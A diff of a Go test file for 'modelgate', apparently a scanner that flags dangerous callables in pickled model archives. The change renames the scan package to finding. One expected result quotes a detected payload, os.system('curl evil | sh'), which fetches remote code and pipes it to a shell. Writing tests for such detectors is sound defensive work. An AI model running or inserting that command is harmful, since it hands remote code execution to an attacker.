@@ -5,7 +5,7 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/modelgate/modelgate/scan"
+	"github.com/modelgate/modelgate/finding"
 )
 
 func TestRuleTable(t *testing.T) {
@@ -14,11 +14,11 @@ func TestRuleTable(t *testing.T) {
 	if d.Name != "modelgate" || d.SemanticVersion != "0.0.0-devel" || d.InformationURI == "" {
 		t.Errorf("driver %q %q %q", d.Name, d.SemanticVersion, d.InformationURI)
 	}
-	rules := scan.Rules()
+	rules := finding.Rules()
 	if len(d.Rules) != len(rules) {
 		t.Fatalf("%d rules, want every rule of the table (%d)", len(d.Rules), len(rules))
 	}
-	band := map[scan.Severity][2]float64{scan.Critical: {9.1, 10}, scan.High: {7.1, 8.8}, scan.Medium: {4.1, 6.8}, scan.Low: {0.1, 3.8}}
+	band := map[finding.Severity][2]float64{finding.Critical: {9.1, 10}, finding.High: {7.1, 8.8}, finding.Medium: {4.1, 6.8}, finding.Low: {0.1, 3.8}}
 	for i, r := range rules {
 		got := d.Rules[i]
 		t.Run(strings.ToLower(r.ID), func(t *testing.T) {
@@ -80,7 +80,7 @@ func TestResults(t *testing.T) {
 	// The os.system occurrence (offset 42) is the primary: same severity as
 	// exec, lower offset; exec is its related location.
 	mg001 := run.Results[1]
-	if mg001.RuleID != scan.RuleDangerousCallable || mg001.Level != "error" {
+	if mg001.RuleID != finding.RuleDangerousCallable || mg001.Level != "error" {
 		t.Fatalf("results[1] = %s %s", mg001.RuleID, mg001.Level)
 	}
 	for _, want := range []string{"os.system('curl evil | sh')", "archive/data.pkl", "offset 42", "1 more occurrence"} {
